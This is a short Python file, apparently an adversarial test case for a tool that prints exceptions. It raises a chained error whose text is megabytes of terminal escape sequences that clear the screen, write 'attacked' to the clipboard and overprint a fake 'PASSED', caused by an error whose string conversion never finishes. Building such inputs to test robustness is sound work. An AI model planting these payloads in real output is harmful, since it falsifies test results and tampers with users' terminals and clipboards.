# cases: 30, 46, 60
# destructive
# fact: ^.{0,600}$
"""Raises an error whose text is ten megabytes of what a terminal obeys, caused by one whose text cannot be had."""


class Endless(Exception):
    def __str__(self):
        return "\x1b[2J\x1b]52;c;YXR0YWNrZWQ=\x07\rPASSED\u202e" * 400_000

    __repr__ = __str__


class Unspeakable(Exception):
    def __str__(self):
        raise self

    __repr__ = __str__


def attack(bait):
    try:
        raise Unspeakable
    except Unspeakable as cause:
        raise Endless from cause
